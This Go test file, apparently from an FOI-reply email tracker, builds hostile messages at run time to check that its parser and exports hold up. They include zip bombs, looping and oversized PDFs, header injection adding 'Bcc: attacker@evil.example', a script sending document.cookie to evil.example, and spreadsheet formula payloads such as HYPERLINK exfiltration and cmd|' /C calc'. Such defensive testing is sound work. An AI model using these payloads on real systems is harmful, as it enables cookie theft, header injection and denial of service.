package worker_test

// Hostile input: a mailbox holding messages built to hurt a mail parser
// (zip bombs, looping PDFs, huge and deeply nested MIME, broken charsets,
// header injection, script, binary junk, nothing at all) among the normal
// demo samples. Every hostile message must end stored with warnings a person
// can read, or in FAILED with a clear error; the normal samples after them
// must be processed as usual; memory must stay bounded. The corpus is built
// at run time: nothing large is committed.

import (
	"archive/zip"
	"bufio"
	"bytes"
	"compress/flate"
	"context"
	"encoding/base64"
	"encoding/csv"
	"fmt"
	"hash/crc32"
	"io"
	"math/rand"
	"net/http"
	"net/http/httptest"
	"os"
	"regexp"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"

	"github.com/foiwatch/foiwatch/parser"
	"github.com/foiwatch/foiwatch/worker"
	"github.com/foiwatch/foiwatch/worker/deadline"
	"github.com/foiwatch/foiwatch/worker/demo"
)

// hostile is one message of the corpus.
type hostile struct {
	name string
	raw  []byte // dropped once appended, so the heap measured is foiwatch's
	sha  string
	// failed, when set, is what the FAILED entry's error must say; else the
	// message must be stored.
	failed string
	// warning, when set, must appear in one of the stored reply's warnings.
	warning string
	// check looks at the stored reply (may be nil).
	check func(t *testing.T, r *parser.Reply)
}

// hostileHead is the top of a hostile message: from the Wessex office and
// threaded on its request, so that it is matched and shown on the status
// page (the demo samples do not depend on Wessex's state).
func hostileHead(name, subject string) string {
	return "From: Wessex FOI <enquiries@wessex-pfcc.gov.uk>\r\n" +
		"To: researcher@requests.example.org\r\n" +
		"Subject: " + subject + "\r\n" +
		"Date: Mon, 17 Jun 2024 10:00:00 +0100\r\n" +
		"Message-ID: <hostile-" + name + "@wessex-pfcc.gov.uk>\r\n" +
		"In-Reply-To: <dapp-demo-wessex@requests.example.org>\r\n" +
		"MIME-Version: 1.0\r\n"
}

type attachment struct {
	ctype, filename string
	data            []byte
}

// withAttachments is a multipart/mixed message: a short text, then each
// attachment in base64.
func withAttachments(head string, atts ...attachment) []byte {
	var b bytes.Buffer
	b.WriteString(head)
	b.WriteString("Content-Type: multipart/mixed; boundary=\"hostile-boundary\"\r\n\r\n")
	b.WriteString("--hostile-boundary\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nPlease find our response attached.\r\n")
	for _, a := range atts {
		fmt.Fprintf(&b, "--hostile-boundary\r\nContent-Type: %s; name=%q\r\nContent-Disposition: attachment; filename=%q\r\nContent-Transfer-Encoding: base64\r\n\r\n", a.ctype, a.filename, a.filename)
		enc := base64.StdEncoding.EncodeToString(a.data)
		for len(enc) > 76 {
			b.WriteString(enc[:76])
			b.WriteString("\r\n")
			enc = enc[76:]
		}
		b.WriteString(enc)
		b.WriteString("\r\n")
	}
	b.WriteString("--hostile-boundary--\r\n")
	return b.Bytes()
}

// deflateRepeat deflates n bytes of fill after prefix and returns the
// compressed bytes, the CRC-32 and the size of what it inflates to.
func deflateRepeat(t *testing.T, prefix string, fill byte, n int64) (comp []byte, crc uint32, size uint64) {
	t.Helper()
	var buf bytes.Buffer
	fw, err := flate.NewWriter(&buf, flate.BestCompression)
	if err != nil {
		t.Fatal(err)
	}
	h := crc32.NewIEEE()
	w := io.MultiWriter(fw, h)
	io.WriteString(w, prefix)
	chunk := bytes.Repeat([]byte{fill}, 1<<20)
	for written := int64(0); written < n; written += int64(len(chunk)) {
		w.Write(chunk)
	}
	if err := fw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes(), h.Sum32(), uint64(len(prefix)) + uint64(n)
}

// zipBombDOCX is a .docx whose word/document.xml inflates to 256 MiB. With
// lie, the zip header claims 4 KiB, so only counting the inflated bytes
// catches it.
func zipBombDOCX(t *testing.T, comp []byte, crc uint32, size uint64, lie bool) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	w, _ := zw.Create("[Content_Types].xml")
	io.WriteString(w, `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">`+
		`<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`)
	fh := &zip.FileHeader{Name: "word/document.xml", Method: zip.Deflate, CRC32: crc,
		CompressedSize64: uint64(len(comp)), UncompressedSize64: size}
	if lie {
		fh.UncompressedSize64 = 4096
	}
	rw, err := zw.CreateRaw(fh)
	if err != nil {
		t.Fatal(err)
	}
	rw.Write(comp)
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// buildPDF writes objs as objects 1..n with a correct xref table.
func buildPDF(objs []string, trailer string) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
	var offs []int
	for i, o := range objs {
		offs = append(offs, b.Len())
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	xref := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objs)+1)
	for _, o := range offs {
		fmt.Fprintf(&b, "%010d 00000 n \n", o)
	}
	fmt.Fprintf(&b, "trailer\n<< %s >>\nstartxref\n%d\n%%%%EOF\n", trailer, xref)
	return b.Bytes()
}

// loopPDF has a page tree whose Pages nodes are each other's kids and
// parents.
func loopPDF() []byte {
	return buildPDF([]string{
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 /Parent 3 0 R >>",
		"<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 5 0 R >>",
		"<< /Length 44 >>\nstream\nBT /F1 12 Tf 72 712 Td (Loop page) Tj ET\nendstream",
	}, "/Size 6 /Root 1 0 R")
}

// hugePDF claims two billion objects and pages, a page 10^9 points wide,
// and a content stream of 99 GB that is in fact a 64 MiB deflate bomb.
func hugePDF(t *testing.T) []byte {
	comp, _, _ := deflateRepeat(t, "BT /F1 12 Tf 72 712 Td (huge) Tj ET\n", ' ', 64<<20)
	objs := []string{
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 1000000000 1000000000] /Contents 4 0 R >>",
	}
	pdf := buildPDF(objs, "/Size 2147483647 /Root 1 0 R")
	// Object 4 (the stream) is appended after the table, so the xref is
	// wrong as well: the reader has to reconstruct it.
	var b bytes.Buffer
	b.Write(pdf[:bytes.LastIndex(pdf, []byte("xref"))])
	fmt.Fprintf(&b, "4 0 obj\n<< /Length 99999999999 /Filter /FlateDecode >>\nstream\n")
	// A zlib stream: the 2-byte header, then the raw deflate data.
	b.Write([]byte{0x78, 0xda})
	b.Write(comp)
	b.WriteString("\nendstream\nendobj\n")
	b.Write(pdf[bytes.LastIndex(pdf, []byte("xref")):])
	return b.Bytes()
}

// bigText is n bytes of CSV-like text.
func bigText(n int) []byte {
	var b bytes.Buffer
	b.Grow(n + 64)
	for i := 0; b.Len() < n; i++ {
		fmt.Fprintf(&b, "row %d,Borsetshire,%d,referrals counted in the quarter\n", i, i%97)
	}
	return b.Bytes()[:n]
}

func manyParts(head string, n int) []byte {
	var b bytes.Buffer
	b.WriteString(head)
	b.WriteString("Content-Type: multipart/mixed; boundary=\"many\"\r\n\r\n")
	for i := 0; i < n; i++ {
		fmt.Fprintf(&b, "--many\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nPart %d of the response.\r\n", i)
	}
	b.WriteString("--many--\r\n")
	return b.Bytes()
}

func deepMultipart(head string, depth int) []byte {
	var b bytes.Buffer
	b.WriteString(head)
	b.WriteString("Content-Type: multipart/mixed; boundary=\"d0\"\r\n\r\n")
	for i := 0; i < depth; i++ {
		fmt.Fprintf(&b, "--d%d\r\nContent-Type: multipart/mixed; boundary=\"d%d\"\r\n\r\n", i, i+1)
	}
	b.WriteString("--d" + strconv.Itoa(depth) + "\r\nContent-Type: text/plain\r\n\r\nThe innermost part.\r\n")
	for i := depth; i >= 0; i-- {
		fmt.Fprintf(&b, "--d%d--\r\n", i)
	}
	return b.Bytes()
}

func deepForward(head string, depth int) []byte {
	inner := "From: someone@example.org\r\nSubject: innermost\r\nContent-Type: text/plain\r\n\r\nThe innermost forwarded message.\r\n"
	for i := 0; i < depth; i++ {
		inner = fmt.Sprintf("From: fwd%d@example.org\r\nSubject: Fwd %d\r\nContent-Type: message/rfc822\r\n\r\n%s", i, i, inner)
	}
	return []byte(head + "Content-Type: message/rfc822\r\n\r\n" + inner)
}

// plainSentence reports what is wrong with w as a warning shown to a
// person: it must be one line of readable text, not a Go value or a stack.
func plainSentence(w string) string {
	switch {
	case len(w) < 10:
		return "too short"
	case len(w) > 600:
		return "longer than 600 bytes"
	case !utf8.ValidString(w):
		return "not valid UTF-8"
	case strings.ContainsFunc(w, func(r rune) bool { return unicode.IsControl(r) }):
		return "holds control characters"
	case !unicode.IsLetter([]rune(w)[0]):
		return "does not start with a word"
	}
	for _, bad := range []string{"%!", "goroutine ", "panic", "internal error", "runtime error", "0x", "<nil>", "&{", "map["} {
		if strings.Contains(w, bad) {
			return "contains " + strconv.Quote(bad)
		}
	}
	return ""
}

// goErrorText finds what a Go library's error looks like inside a
// sentence: "multipart: NextPart: EOF", "htmlindex: invalid encoding name",
// "unexpected EOF".
var goErrorText = regexp.MustCompile(`\b[a-z0-9]+: [A-Za-z]+: |\b(?:htmlindex|multipart|flate|zlib|base64): |unexpected EOF|\bEOF\b`)

// memPeak samples the heap in use until stop is called.
type memPeak struct {
	mu   sync.Mutex
	peak uint64
	done chan struct{}
	wg   sync.WaitGroup
}

func sampleMemory() *memPeak {
	m := &memPeak{done: make(chan struct{})}
	m.wg.Add(1)
	go func() {
		defer m.wg.Done()
		t := time.NewTicker(20 * time.Millisecond)
		defer t.Stop()
		var ms runtime.MemStats
		for {
			runtime.ReadMemStats(&ms)
			m.mu.Lock()
			m.peak = max(m.peak, ms.HeapInuse)
			m.mu.Unlock()
			select {
			case <-m.done:
				return
			case <-t.C:
			}
		}
	}()
	return m
}

func (m *memPeak) now() uint64 {
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.peak
}

func (m *memPeak) stop() uint64 {
	close(m.done)
	m.wg.Wait()
	return m.peak
}

// vmHWM is the process's peak resident set size (bytes), from /proc.
func vmHWM() uint64 {
	f, err := os.Open("/proc/self/status")
	if err != nil {
		return 0
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		if rest, ok := strings.CutPrefix(sc.Text(), "VmHWM:"); ok {
			kb, _ := strconv.ParseUint(strings.TrimSuffix(strings.TrimSpace(rest), " kB"), 10, 64)
			return kb << 10
		}
	}
	return 0
}

func hostileCorpus(t *testing.T) []hostile {
	t.Helper()
	bombComp, bombCRC, bombSize := deflateRepeat(t, `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>`, 'A', 256<<20)
	rng := rand.New(rand.NewSource(7))
	binary := make([]byte, 256<<10)
	rng.Read(binary)
	copy(binary, "\x7fELF\x02\x01\x01\x00")

	noCRLF := func(t *testing.T, r *parser.Reply) {
		if strings.ContainsAny(r.Subject, "\r\n") {
			t.Errorf("stored subject holds CR or LF: %q", r.Subject)
		}
	}
	return []hostile{
		{name: "zip-bomb-docx", raw: withAttachments(hostileHead("zip-bomb", "RE: FOI response"),
			attachment{"application/vnd.openxmlformats-officedocument.wordprocessingml.document", "response.docx", zipBombDOCX(t, bombComp, bombCRC, bombSize, false)}),
			warning: "response.docx"},
		{name: "zip-bomb-docx-lying-header", raw: withAttachments(hostileHead("zip-bomb-lie", "RE: FOI response"),
			attachment{"application/octet-stream", "letter.docx", zipBombDOCX(t, bombComp, bombCRC, bombSize, true)}),
			warning: "letter.docx"},
		{name: "pdf-page-tree-loop", raw: withAttachments(hostileHead("pdf-loop", "RE: FOI response"),
			attachment{"application/pdf", "loop.pdf", loopPDF()}),
			check: func(t *testing.T, r *parser.Reply) {
				if len(r.Attachments) != 1 {
					t.Errorf("attachments = %+v, want loop.pdf", r.Attachments)
				}
			}},
		{name: "pdf-huge-claims", raw: withAttachments(hostileHead("pdf-huge", "RE: FOI response"),
			attachment{"application/pdf", "huge.pdf", hugePDF(t)}),
			check: func(t *testing.T, r *parser.Reply) {
				if len(r.Attachments) != 1 {
					t.Errorf("attachments = %+v, want huge.pdf", r.Attachments)
				}
			}},
		{name: "50MB-attachment", raw: withAttachments(hostileHead("50mb", "RE: FOI response: data"),
			attachment{"text/csv", "referrals.csv", bigText(50 << 20)}),
			warning: "larger than"},
		{name: "10000-parts", raw: manyParts(hostileHead("many-parts", "RE: FOI response in parts"), 10000), warning: "more than 1000 parts"},
		{name: "multipart-nested-100", raw: deepMultipart(hostileHead("deep", "RE: FOI deep"), 100), warning: "nested deeper"},
		{name: "rfc822-nested-100", raw: deepForward(hostileHead("deep-fwd", "Fwd: FOI deep"), 100), warning: "nested deeper"},
		{name: "charset-x-unknown", raw: []byte(hostileHead("charset-unknown", "=?x-unknown?Q?Caf=E9_r=E9ponse?=") +
			"Content-Type: text/plain; charset=\"x-unknown\"\r\nContent-Transfer-Encoding: 8bit\r\n\r\n" +
			"Dear Requester,\r\n1. Caf\xe9 programme.\r\n2. 12.\r\n"),
			warning: "character set"},
		{name: "charset-invalid-bytes", raw: withInvalidBytes(hostileHead("charset-bytes", "RE: FOI \xff\xfe r\xe9ponse")),
			check: func(t *testing.T, r *parser.Reply) {
				if !utf8.ValidString(r.Subject) {
					t.Errorf("subject is not valid UTF-8: %q", r.Subject)
				}
				for k, a := range r.Answers {
					if !utf8.ValidString(a.Text) {
						t.Errorf("answer %s is not valid UTF-8: %q", k, a.Text)
					}
				}
			}},
		{name: "subject-bare-cr", raw: []byte(hostileHead("bare-cr", "RE: FOI\rBcc: attacker@evil.example") +
			"Content-Type: text/plain\r\n\r\nSee subject.\r\n"), check: noCRLF},
		{name: "subject-encoded-crlf", raw: []byte(hostileHead("encoded-crlf", "=?utf-8?B?"+
			base64.StdEncoding.EncodeToString([]byte("RE: FOI\r\nBcc: attacker@evil.example\r\nX-Injected: yes"))+"?=") +
			"Content-Type: text/plain\r\n\r\nSee subject.\r\n"),
			check: func(t *testing.T, r *parser.Reply) {
				noCRLF(t, r)
				if !strings.Contains(r.Subject, "attacker@evil.example") {
					t.Errorf("subject %q: the decoded words were lost", r.Subject)
				}
			}},
		{name: "html-script", raw: []byte(hostileHead("script", "<script>alert('subject')</script> RE: FOI") +
			"Content-Type: text/html; charset=utf-8\r\n\r\n" +
			"<html><head><script>document.location='https://evil.example/?c='+document.cookie</script>" +
			"<style>p{color:red}</style></head><body><p>Dear Requester</p>" +
			"<p>1. <script>alert('answer')</script>Programme &lt;script&gt;alert(1)&lt;/script&gt;</p>" +
			"<p>2. 12.</p><img src=x onerror=\"alert('img')\"><a href=\"javascript:alert('a')\">our website</a></body></html>\r\n"),
			check: func(t *testing.T, r *parser.Reply) {
				for k, a := range r.Answers {
					if strings.Contains(a.Text, "document.cookie") || strings.Contains(a.Text, "alert('answer')") {
						t.Errorf("answer %s holds the text of a <script> element: %q", k, a.Text)
					}
				}
			}},
		{name: "formula-answers", raw: []byte(strings.Replace(hostileHead("formula", "RE: Freedom of Information request [WPFCC/FOI/2024/099]"),
			"Mon, 17 Jun 2024", "Tue, 18 Jun 2024", 1) + // the latest reply: its answers fill the row
			"Content-Type: text/plain; charset=utf-8\r\n\r\nDear Requester,\r\n\r\nI can advise the following:\r\n\r\n" +
			"1. =HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click for the full response\")\r\n" +
			"2. 12.\r\n" +
			"8. @SUM(1+1)*cmd|' /C calc'!A0, +cmd|' /C calc'!A0, -2+3\r\n\r\nYours sincerely\r\nWessex FOI\r\n")},
		{name: "not-email-binary", raw: binary, failed: "not an email"},
		{name: "empty", raw: []byte{}, failed: "not an email"},
	}
}

// isFormula reports whether a spreadsheet opening a CSV would take cell
// for a formula: it starts with = + - @ (or a tab or CR) and is not a
// plain number.
func isFormula(cell string) bool {
	if cell == "" || !strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
		return false
	}
	_, err := strconv.ParseFloat(cell, 64)
	return err != nil
}

// withInvalidBytes is a message whose parts hold bytes their declared
// charsets do not allow.
func withInvalidBytes(head string) []byte {
	return []byte(head + "Content-Type: multipart/mixed; boundary=\"cs\"\r\n\r\n" +
		"--cs\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n1. Programme \xff\xfe\xc3\x28 name.\r\n2. 12.\r\n" +
		"--cs\r\nContent-Type: text/plain; charset=iso-2022-jp\r\nContent-Transfer-Encoding: 8bit\r\n\r\n\x1b$B\xff\xfe\x1b(B broken\r\n" +
		"--cs\r\nContent-Type: text/plain; charset=shift_jis\r\nContent-Transfer-Encoding: 8bit\r\n\r\n\x81\x20\xa0\xfd broken\r\n" +
		"--cs\r\nContent-Type: text/plain; charset=utf-16le\r\nContent-Transfer-Encoding: 8bit\r\n\r\n\x00\xd8odd\r\n" +
		"--cs--\r\n")
}

func TestHostileInputIsStoredWithWarningsOrFailsClearly(t *testing.T) {
	if testing.Short() {
		t.Skip("-short: skipping the hostile-input test (it builds a 70 MB message)")
	}
	ctx := context.Background()
	peer := memPeer(t)
	corpus := hostileCorpus(t)
	samples, err := demo.Samples()
	if err != nil {
		t.Fatal(err)
	}
	// Samples before, between and after the hostile messages. UIDs count
	// from 1 in append order: go-imap's in-memory server does not keep
	// bytes that are not a message (it serves the binary one as "\r\n"), so
	// FAILED entries are found by UID.
	uid := map[string]uint32{}
	n := uint32(0)
	add := func(name string, raw []byte) {
		peer.append(t, raw)
		n++
		uid[name] = n
	}
	var binary []byte
	for i := range corpus {
		corpus[i].sha = sha(corpus[i].raw)
		if corpus[i].name == "not-email-binary" {
			binary = corpus[i].raw
		}
	}
	half := len(corpus) / 2
	for _, s := range samples[:2] {
		add(s.Name, s.Raw)
	}
	for i := range corpus[:half] {
		add(corpus[i].name, corpus[i].raw)
		corpus[i].raw = nil
	}
	for _, s := range samples[2:4] {
		add(s.Name, s.Raw)
	}
	for i := range corpus[half:] {
		add(corpus[half+i].name, corpus[half+i].raw)
		corpus[half+i].raw = nil
	}
	for _, s := range samples[4:] {
		add(s.Name, s.Raw)
	}
	runtime.GC()
	d := openDaemon(t, t.TempDir(), peer)
	// The 50 MB attachment makes a message of 68 MiB, over the default
	// max_message_bytes of 64 MiB: raised here, so that the parser's own
	// limits are what this test sees (the poller's is in wrong_test.go).
	d.Cfg.Mailboxes[0].MaxMessageBytes = 100 << 20
	// The binary message exactly as written, not as the test server keeps
	// it: imported straight into the queue.
	if _, err := d.IngestRaw(ctx, binary, "import"); err != nil {
		t.Fatal(err)
	}

	mem := sampleMemory()
	var ingestPeak uint64
	var once sync.Once
	d.Proc.BeforeParse = func(context.Context, string) error {
		once.Do(func() { ingestPeak = mem.now() }) // Sync fetches everything before it parses
		return nil
	}
	start := time.Now()
	res, err := d.Sync(ctx)
	took := time.Since(start)
	peak := mem.stop()
	hwm := vmHWM()
	t.Logf("sync of %d hostile and %d normal messages: %+v in %s; peak heap in use %d MiB (%d MiB while fetching and storing, before any parse), peak RSS (VmHWM) %d MiB",
		len(corpus), len(samples), res, took.Round(time.Millisecond), peak>>20, ingestPeak>>20, hwm>>20)
	if err != nil {
		t.Fatalf("sync: %v", err)
	}
	if total := len(corpus) + len(samples); res.Fetched != total || res.Processed != total+1 {
		t.Errorf("sync = %+v; want all %d fetched and %d processed", res, total, total+1)
	}
	const bound = 1 << 30
	if peak > bound || hwm > 2*bound {
		t.Errorf("memory not bounded: peak heap %d MiB, peak RSS %d MiB", peak>>20, hwm>>20)
	}

	failed, err := d.Q.Failed(ctx)
	if err != nil {
		t.Fatal(err)
	}
	failedByUID := map[uint32]string{}
	failedBySHA := map[string]string{}
	for _, f := range failed {
		if f.Envelope.UID != 0 {
			failedByUID[f.Envelope.UID] = f.Error
		} else {
			failedBySHA[f.Envelope.SHA256] = f.Error
		}
	}
	if e, ok := failedBySHA[sha(binary)]; !ok || !strings.Contains(e, "not an email") {
		t.Errorf("the imported binary message: FAILED entry %q (found %v), want one saying it is not an email", e, ok)
	}
	for _, h := range corpus {
		r, rerr := d.Store.Reply(ctx, h.sha)
		if h.failed != "" {
			e, ok := failedByUID[uid[h.name]]
			switch {
			case !ok:
				t.Errorf("%s: not in FAILED (stored: %v)", h.name, rerr == nil)
			case !strings.Contains(e, h.failed):
				t.Errorf("%s: FAILED with %q, want it to say %q", h.name, e, h.failed)
			default:
				t.Logf("%s: FAILED: %s", h.name, e)
			}
			continue
		}
		if e, ok := failedByUID[uid[h.name]]; ok {
			t.Errorf("%s: in FAILED (%s), want it stored with warnings", h.name, e)
			continue
		}
		if rerr != nil {
			t.Errorf("%s: not stored: %v", h.name, rerr)
			continue
		}
		t.Logf("%s: stored as %s/%s kind %s, %d attachment(s), warnings %q", h.name, r.Request, r.Match, r.Kind, len(r.Attachments), r.Warnings)
		if r.Request != "wessex" {
			t.Errorf("%s: matched to %q by %q, want wessex by thread", h.name, r.Request, r.Match)
		}
		for _, w := range r.Warnings {
			if why := plainSentence(w); why != "" {
				t.Errorf("%s: warning %q is not a plain sentence: %s", h.name, w, why)
			}
			if m := goErrorText.FindString(w); m != "" {
				// Readable, but with a Go library's error text in it.
				t.Logf("NOTE %s: warning %q carries library error text %q", h.name, w, m)
			}
		}
		if h.warning != "" && !strings.Contains(strings.Join(r.Warnings, "\n"), h.warning) {
			t.Errorf("%s: no warning mentions %q: %q", h.name, h.warning, r.Warnings)
		}
		if h.check != nil {
			h.check(t, r)
		}
	}
	if len(failed) != 3 {
		t.Errorf("%d messages in FAILED, want 3 (the binary one from IMAP and imported, the empty one)", len(failed))
	}

	// The normal samples are processed exactly as without the hostile ones.
	for _, s := range samples {
		w := wantSamples[s.Name]
		r, err := d.Store.Reply(ctx, sha(s.Raw))
		if err != nil {
			t.Errorf("%s: not stored after the hostile messages: %v", s.Name, err)
			continue
		}
		got := fmt.Sprintf("request=%q match=%q kind=%q reference=%q", r.Request, r.Match, r.Kind, r.Reference)
		exp := fmt.Sprintf("request=%q match=%q kind=%q reference=%q", w.request, w.match, w.kind, w.reference)
		if got != exp {
			t.Errorf("%s:\n got %s\nwant %s", s.Name, got, exp)
		}
		for k, v := range w.answers {
			if c := worker.CellValue(r.Answers[k]); c != v {
				t.Errorf("%s: answer %s = %q, want %q", s.Name, k, c, v)
			}
		}
	}

	// The status page shows the hostile subjects escaped.
	rec := httptest.NewRecorder()
	req := httptest.NewRequest(http.MethodGet, "/", nil)
	req.Host = "127.0.0.1:8080" // the status page answers only to a loopback name
	d.HTTPHandler().ServeHTTP(rec, req)
	page := rec.Body.String()
	if rec.Code != http.StatusOK {
		t.Fatalf("status page: %d %s", rec.Code, page)
	}
	if !strings.Contains(page, "&lt;script&gt;alert(") {
		t.Errorf("the status page does not show the hostile subject at all (the test would prove nothing)")
	}
	for _, raw := range []string{"<script", "onerror=", "javascript:", "\nBcc:", "\rBcc:"} {
		if strings.Contains(strings.ToLower(page), strings.ToLower(raw)) {
			i := strings.Index(strings.ToLower(page), strings.ToLower(raw))
			t.Errorf("the status page holds %q unescaped: …%s…", raw, page[max(0, i-80):min(len(page), i+80)])
		}
	}
	if csp := rec.Header().Get("Content-Security-Policy"); !strings.Contains(csp, "default-src 'none'") {
		t.Errorf("status page CSP = %q", csp)
	}

	// Exports: an answer that reads as a spreadsheet formula must not be
	// one in the CSV or the workbook.
	rows, err := d.Rows(ctx, "", deadline.DateOf(demo.Clock))
	if err != nil {
		t.Fatal(err)
	}
	var csvBuf bytes.Buffer
	if err := d.WriteCSV(&csvBuf, rows); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&csvBuf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	sawFormula := false
	for _, rec := range recs[1:] {
		for _, cell := range rec {
			if strings.Contains(cell, "HYPERLINK") || strings.Contains(cell, "cmd|") {
				sawFormula = true
				t.Logf("CSV export, %s: %q", rec[1], cell)
			}
			if isFormula(cell) {
				t.Errorf("CSV export: cell %q of %s would run as a formula in a spreadsheet", cell, rec[1])
			}
		}
	}
	if !sawFormula {
		t.Errorf("the formula answer is not in the CSV export (the test would prove nothing): %q", recs)
	}
	var xb bytes.Buffer
	if err := d.WriteXLSX(&xb, rows); err != nil {
		t.Fatal(err)
	}
	wb, err := excelize.OpenReader(&xb)
	if err != nil {
		t.Fatal(err)
	}
	defer wb.Close()
	for _, sheet := range wb.GetSheetList() {
		xrows, _ := wb.GetRows(sheet)
		for i, xr := range xrows {
			for j := range xr {
				cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
				if f, _ := wb.GetCellFormula(sheet, cell); f != "" {
					t.Errorf("xlsx export: %s!%s is a formula: %q", sheet, cell, f)
				}
			}
		}
	}

	// Exports: every stored reply (hostile ones included) as JSON lines,
	// one per line whatever the subject held.
	var buf bytes.Buffer
	if err := d.WriteReplies(ctx, &buf, ""); err != nil {
		t.Fatal(err)
	}
	if n := strings.Count(buf.String(), "\n"); n != len(corpus)-2+len(samples) {
		t.Errorf("export --replies wrote %d lines, want %d", n, len(corpus)-2+len(samples))
	}
}
